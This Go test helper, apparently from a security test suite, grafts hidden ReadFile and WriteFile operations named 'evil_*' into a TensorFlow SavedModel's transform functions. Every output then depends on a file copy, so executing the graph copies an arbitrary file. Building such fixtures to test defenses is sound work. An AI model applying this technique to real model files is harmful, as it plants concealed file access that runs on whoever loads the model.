package main

import (
	"os"
	"strings"

	"github.com/rogpeppe/go-internal/testscript"
	attrpb "github.com/wamuir/graft/tensorflow/core/framework/attr_value_go_proto"
	nodepb "github.com/wamuir/graft/tensorflow/core/framework/node_def_go_proto"
	tensorpb "github.com/wamuir/graft/tensorflow/core/framework/tensor_go_proto"
	shapepb "github.com/wamuir/graft/tensorflow/core/framework/tensor_shape_go_proto"
	typepb "github.com/wamuir/graft/tensorflow/core/framework/types_go_proto"
	corepb "github.com/wamuir/graft/tensorflow/core/protobuf/for_core_protos_go_proto"
	"google.golang.org/protobuf/proto"
)

// graft adds operations to the functions of a transform graph that copy one file to another: graft SAVED_MODEL FROM TO. All outputs
// of these functions depend on the copy by a control edge, so that whatever executes the graph copies the file first.
func graft(ts *testscript.TestScript, neg bool, args []string) {
	if neg || len(args) != 3 {
		ts.Fatalf("usage: graft SAVED_MODEL FROM TO")
	}
	file := ts.MkAbs(args[0])
	data, err := os.ReadFile(file)
	ts.Check(err)
	var saved corepb.SavedModel
	ts.Check(proto.Unmarshal(data, &saved))
	outputs := 0
	for _, g := range saved.MetaGraphs {
		for _, f := range g.GetGraphDef().GetLibrary().GetFunction() {
			if len(f.NodeDef) < 4 || !strings.Contains(f.Signature.Name, "transform_fn") && !strings.Contains(f.Signature.Name, "pruned") {
				continue
			}
			nodes := map[string]*nodepb.NodeDef{}
			for _, n := range f.NodeDef {
				nodes[n.Name] = n
			}
			for _, ret := range f.Ret {
				name, _, _ := strings.Cut(ret, ":")
				if n := nodes[name]; n != nil {
					n.Input = append(n.Input, "^evil_write")
					outputs++
				}
			}
			f.NodeDef = append(f.NodeDef, stringConstant("evil_from", args[1]), stringConstant("evil_to", args[2]),
				&nodepb.NodeDef{Name: "evil_read", Op: "ReadFile", Input: []string{"evil_from:output:0"}},
				&nodepb.NodeDef{Name: "evil_write", Op: "WriteFile", Input: []string{"evil_to:output:0", "evil_read:contents:0"}})
			f.ControlRet = map[string]string{"evil_write": "evil_write"}
			f.Signature.ControlOutput = append(f.Signature.ControlOutput, "evil_write")
			f.Signature.IsStateful = true
		}
	}
	if outputs == 0 {
		ts.Fatalf("%s has no function of a transform graph", args[0])
	}
	data, err = proto.Marshal(&saved)
	ts.Check(err)
	ts.Check(os.WriteFile(file, data, 0o600))
}

func stringConstant(name, value string) *nodepb.NodeDef {
	tensor := &tensorpb.TensorProto{Dtype: typepb.DataType_DT_STRING, TensorShape: &shapepb.TensorShapeProto{}, StringVal: [][]byte{[]byte(value)}}
	return &nodepb.NodeDef{Name: name, Op: "Const", Attr: map[string]*attrpb.AttrValue{
		"dtype": {Value: &attrpb.AttrValue_Type{Type: tensor.Dtype}},
		"value": {Value: &attrpb.AttrValue_Tensor{Tensor: tensor}},
	}}
}
